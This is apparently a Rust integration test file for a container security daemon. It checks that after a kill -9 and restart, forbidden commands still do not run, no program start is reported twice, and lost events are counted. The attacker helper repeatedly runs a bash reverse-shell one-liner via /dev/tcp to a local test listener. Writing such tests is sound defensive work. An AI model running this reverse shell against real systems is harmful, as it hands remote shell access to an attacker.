//! `kill -9` in the middle of a storm: what is forbidden does not run, and no program start goes missing
//! without being counted.

use crate::container::{Container, Group};
use crate::daemon::{Daemon, Settings};
use crate::lab::Peer;
use crate::restart::Bpffs;
use anyhow::{Context, Result, ensure};
use serde_json::Value;
use std::collections::HashMap;
use std::fs;
use std::io::Read as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// Benign program starts, each with its number as argument; on the machine this was written on some
/// 40 a second beside the attacks.
const EXECS: usize = 1200;
/// Program starts whose records are more than the rings hold.
const FLOOD: usize = 2500;
/// Program starts whose rows are more than a pipe holds.
const HUNG: usize = 400;
/// From the first to the kill, and from there to the restart.
const PART: Duration = Duration::from_secs(3);
/// For the last rows to be written.
const SETTLE: Duration = Duration::from_secs(20);

/// Exactly once in the stream, or counted.
pub fn storm_over_a_killed_daemon_is_accounted_for() -> Result<()> {
    let (group, pins) = (Group::make()?, Bpffs::mount()?);
    let settings = Settings { pins: Some(pins.pins("keep")), ..Settings::mode("protect") };
    let mut daemon = Daemon::start(&group, &settings)?;
    let container = Arc::new(Container::start(&group)?);
    let peer = Peer::shell(container.listen()?, "touch /tmp/effect\nexit\n", Duration::from_millis(500))?;
    let (over, attacks) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
    let benign = benign(&container);
    let attacker = attacker(&container, peer.port, over.clone(), attacks.clone());

    std::thread::sleep(PART);
    daemon.kill_9()?;
    let (before, rows_before) = (attacks.load(Ordering::SeqCst), stream(&pins)?.len());
    std::thread::sleep(PART);
    let between = attacks.load(Ordering::SeqCst) - before;
    let next = Daemon::start(&group, &settings)?;
    benign.join().map_err(|_| anyhow::anyhow!("the benign thread panicked"))??;
    over.store(true, Ordering::SeqCst);
    attacker.join().map_err(|_| anyhow::anyhow!("the attacking thread panicked"))??;

    ensure!(between > 0, "no attack was made while no daemon ran");
    ensure!(!container.path("/tmp/effect").exists(), "an attacker's command ran");
    ensure!(peer.received() == 0, "the attacker received {} bytes", peer.received());
    let (seen, lost) = settled(&pins, &next)?;
    let twice: Vec<_> = seen.iter().filter(|(_, count)| **count > 1).collect();
    let missing = EXECS - seen.len();
    eprintln!(
        "storm: {EXECS} starts, {rows_before} rows before the kill, {missing} starts missing, {lost} events counted lost; {} attacks, {between} of them without a daemon",
        attacks.load(Ordering::SeqCst)
    );
    ensure!(twice.is_empty(), "told more than once: {twice:?}");
    ensure!(missing as u64 <= lost, "{missing} starts are missing and {lost} events are counted lost");
    // The rings hold the time between; a stream that misses half of it has not been handed over.
    ensure!(seen.len() > EXECS / 2, "only {} of {EXECS} starts are in the stream", seen.len());
    next.await_alert("reverse_shell", container.id()).map(drop)
}

/// More than the rings hold happens while no daemon runs: what did not fit is counted, and told.
pub fn overflow_without_a_daemon_is_counted() -> Result<()> {
    let (group, pins) = (Group::make()?, Bpffs::mount()?);
    let settings = Settings { pins: Some(pins.pins("keep")), ..Settings::mode("protect") };
    let mut daemon = Daemon::start(&group, &settings)?;
    let container = Container::start(&group)?;
    daemon.kill_9()?;
    ensure!(container.spawn(&numbered(FLOOD))?.wait()?.success(), "the flood ended badly");
    let next = Daemon::start(&group, &settings)?;
    let (seen, lost) = settled(&pins, &next)?;
    let missing = FLOOD - seen.len();
    eprintln!("overflow: {FLOOD} starts without a daemon, {missing} missing, {lost} events counted lost");
    ensure!(missing > 0, "the rings held everything: the flood is too small to test anything");
    ensure!(missing as u64 <= lost, "{missing} starts are missing and {lost} events are counted lost");
    ensure!(seen.values().all(|count| *count == 1), "some are told more than once");
    let told = |row: &Value| {
        row["event"]["action"] == "event_loss" && row["bulkhead"]["details"]["container"] == container.id()
    };
    next.await_row("notice of the loss", SETTLE, told).map(drop)
}

/// A daemon is killed with rows that its disk did not take: they are counted by the next one.
pub fn rows_of_a_killed_daemon_are_counted() -> Result<()> {
    let (group, pins) = (Group::make()?, Bpffs::mount()?);
    let settings = Settings { pins: Some(pins.pins("keep")), ..Settings::mode("protect") };
    // A pipe stands in for a disk that hangs: it takes 64 KiB, and then makes the writer wait.
    rustix::fs::mknodat(rustix::fs::CWD, pins.events(), rustix::fs::FileType::Fifo, 0o600.into(), 0)?;
    let flags = rustix::fs::OFlags::RDWR | rustix::fs::OFlags::NONBLOCK;
    let mut pipe = fs::File::from(rustix::fs::open(pins.events(), flags, rustix::fs::Mode::empty())?);
    let mut daemon = Daemon::start(&group, &settings)?;
    let container = Container::start(&group)?;
    ensure!(container.spawn(&numbered(HUNG))?.wait()?.success(), "the programs ended badly");
    std::thread::sleep(Duration::from_secs(2));
    daemon.kill_9()?;
    let mut text = Vec::new();
    // Ends with EAGAIN, as the pipe has a writer: this one.
    let _ = pipe.read_to_end(&mut text);
    drop(pipe);
    let written = marks(&rows_of(&String::from_utf8_lossy(&text))).len();
    fs::remove_file(pins.events())?;
    let next = Daemon::start(&group, &settings)?;
    let (seen, lost) = settled(&pins, &next)?;
    let missing = HUNG - written - seen.len();
    eprintln!("hung disk: {HUNG} starts, {written} written, {} by the next daemon, {lost} counted lost", seen.len());
    ensure!(missing > 0, "everything was written: nothing is tested");
    ensure!(missing as u64 <= lost, "{missing} starts are missing and {lost} events are counted lost");
    let told = |row: &Value| row["bulkhead"]["details"]["cause"] == "daemon_ended";
    next.await_row("notice of the loss", SETTLE, told).map(drop)
}

/// Starts so many programs, each with its number.
fn numbered(count: usize) -> String {
    format!("i=0; while [ $i -lt {count} ]; do /bin/true storm-$i; i=$((i+1)); done")
}

/// Starts `EXECS` programs one after the other.
fn benign(container: &Arc<Container>) -> std::thread::JoinHandle<Result<()>> {
    let container = container.clone();
    std::thread::spawn(move || {
        let script = numbered(EXECS);
        let mut child = container.spawn(&script)?;
        let status = child.wait().context("wait for the benign programs")?;
        ensure!(status.success(), "the benign programs ended with {status}");
        Ok(())
    })
}

/// One reverse shell after the other.
fn attacker(
    container: &Arc<Container>,
    port: u16,
    over: Arc<AtomicBool>,
    attacks: Arc<AtomicUsize>,
) -> std::thread::JoinHandle<Result<()>> {
    let container = container.clone();
    std::thread::spawn(move || {
        while !over.load(Ordering::SeqCst) {
            container.run(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"))?;
            attacks.fetch_add(1, Ordering::SeqCst);
        }
        Ok(())
    })
}

/// Rows of the stream so far.
fn stream(pins: &Bpffs) -> Result<Vec<Value>> {
    Ok(rows_of(&fs::read_to_string(pins.events()).context("read the events")?))
}

fn rows_of(text: &str) -> Vec<Value> {
    text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

/// How often each numbered start is among the rows.
fn marks(rows: &[Value]) -> HashMap<String, usize> {
    let mut seen = HashMap::new();
    for row in rows.iter().filter(|row| row["event"]["action"] == "exec") {
        if let Some(mark) = row["process"]["args"][1].as_str().filter(|mark| mark.starts_with("storm-")) {
            *seen.entry(mark.to_owned()).or_default() += 1;
        }
    }
    seen
}

/// How often each numbered start is in the stream, and how many events are counted lost, once neither
/// changes any more.
fn settled(pins: &Bpffs, daemon: &Daemon) -> Result<(HashMap<String, usize>, u64)> {
    let deadline = Instant::now() + SETTLE;
    let mut last = (0, 0);
    loop {
        std::thread::sleep(Duration::from_millis(2500));
        let rows = stream(pins)?;
        let lost = daemon.status()?["events_lost"].as_u64().context("no events_lost")?;
        if last == (rows.len(), lost) || Instant::now() > deadline {
            return Ok((marks(&rows), lost));
        }
        last = (rows.len(), lost);
    }
}
